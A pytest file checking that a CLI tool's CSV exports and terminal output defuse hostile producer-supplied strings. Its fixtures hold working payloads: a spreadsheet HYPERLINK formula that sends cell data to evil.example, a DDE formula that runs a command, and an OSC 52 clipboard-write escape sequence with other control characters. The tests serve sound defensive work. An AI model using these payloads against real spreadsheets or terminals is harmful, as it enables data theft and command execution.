"""Producer-controlled strings (post ids, texts, reasons) reach spreadsheets and terminals defused:
CSV cells cannot run as formulas, and no control character reaches the operator's terminal."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from cli.main import main
from shared.database.results import DONE, FAILED, ResultRow, write_rows
from shared.improvement.corrections import corrections
from testkit.factories import register_fake_model

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1)", "\t=1", "'=already quoted"]
# OSC 52 clipboard write, a line clear, a C1 CSI, DEL, and a right-to-left override.
HOSTILE = "p\x1b]52;c;ZXZpbA==\x07\x1b[2K\x9b31m\x7f\u202eevil"
UNSAFE_CHARS = ("\x1b", "\x07", "\x9b", "\x7f", "\u202e")


def topicq(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


@pytest.fixture
def model_rows(sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """topics:1 (fake embedder) with a flagged `done` row for each hostile id, and a failed row."""
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    register_fake_model(sqlite_url, tmp_path / "models")
    write_rows(sqlite_url, [
        ResultRow(post_id=post_id, model_name="topics", model_version=1, status=DONE, label="space",
                  score=0.5, scores={"space": 0.5, "hockey": 0.4}, needs_review=True,
                  review_reason="low_margin", margin=0.1, text=f"-{i} {HOSTILE}")
        for i, post_id in enumerate([*FORMULAS, HOSTILE])])
    write_rows(sqlite_url, [ResultRow(post_id="f1", model_name="topics", model_version=1, status=FAILED,
                                      error=f"=1+1 {HOSTILE}")])
    return sqlite_url


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_results_csv_cells_cannot_start_a_formula(model_rows: str) -> None:
    result = topicq("results", "--format", "csv", "--limit", "0")
    assert result.exit_code == 0, result.output
    rows = csv_rows(result.stdout)
    for row in [*rows[1:], *csv_rows(topicq("results", "--format", "csv", "--status", "failed").stdout)]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    ids = {row[0] for row in rows[1:]}
    assert "'" + FORMULAS[0] in ids and "''=already quoted" in ids
    assert result.stdout.startswith('"post_id","label","score",'), "every cell quoted"
    assert '"topics","1","done"' in result.stdout


def test_review_export_csv_is_defused_and_imports_back(model_rows: str, tmp_path: Path) -> None:
    exported = topicq("review", "export", "--limit", "0")
    assert exported.exit_code == 0, exported.output
    rows = csv_rows(exported.stdout)
    header, body = rows[0], rows[1:]
    assert len(body) == len(FORMULAS) + 1
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    queue = tmp_path / "queue.csv"
    queue.write_text(exported.stdout, encoding="utf-8", newline="")
    imported = topicq("review", "import", str(queue), "--reviewer", "ana")
    assert imported.exit_code == 0, imported.output
    assert {c.post_id for c in corrections(model_rows, model_name="topics")} == {*FORMULAS, HOSTILE}
    assert header[0] == "post_id"


@pytest.mark.parametrize("args", [("results",), ("results", "--status", "failed"), ("stats",),
                                  ("review", "export", "--format", "jsonl"),
                                  ("results", "--format", "jsonl"), ("models",)])
def test_no_control_character_reaches_the_terminal(model_rows: str, args: tuple[str, ...]) -> None:
    result = topicq(*args)
    assert result.exit_code == 0, result.output
    for char in UNSAFE_CHARS:
        assert char not in result.output, (char, result.output)


def test_json_lines_stay_valid_and_carry_the_exact_strings(model_rows: str) -> None:
    result = topicq("results", "--format", "jsonl", "--limit", "0")
    ids = {json.loads(line)["post_id"] for line in result.stdout.splitlines()}
    assert HOSTILE in ids and FORMULAS[1] in ids


def test_the_table_shows_controls_escaped(model_rows: str) -> None:
    result = topicq("results", "--limit", "0")
    assert "p\\x1b]52;c;ZXZpbA==\\x07" in result.stdout


def test_dead_letters_list_escapes_reasons_and_ids(redis_url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import redis

    from shared.wire.dead_letters import dead_letter_key, make_record

    queue = "safety-dead-letters"
    monkeypatch.setenv("REDIS_URL", redis_url)
    client = redis.Redis.from_url(redis_url)
    client.lpush(dead_letter_key(queue), make_record(HOSTILE.encode(), reason=f"bad {HOSTILE}", queue=queue,
                                                     post_ids=[HOSTILE]))
    for args in (("dead-letters", "list", "--queue", queue),
                 ("dead-letters", "list", "--queue", queue, "--format", "jsonl")):
        result = topicq(*args)
        assert result.exit_code == 0, result.output
        for char in UNSAFE_CHARS:
            assert char not in result.output, (args, char)
    line = topicq("dead-letters", "list", "--queue", queue, "--format", "jsonl").stdout
    assert json.loads(line)["post_ids"] == [HOSTILE]
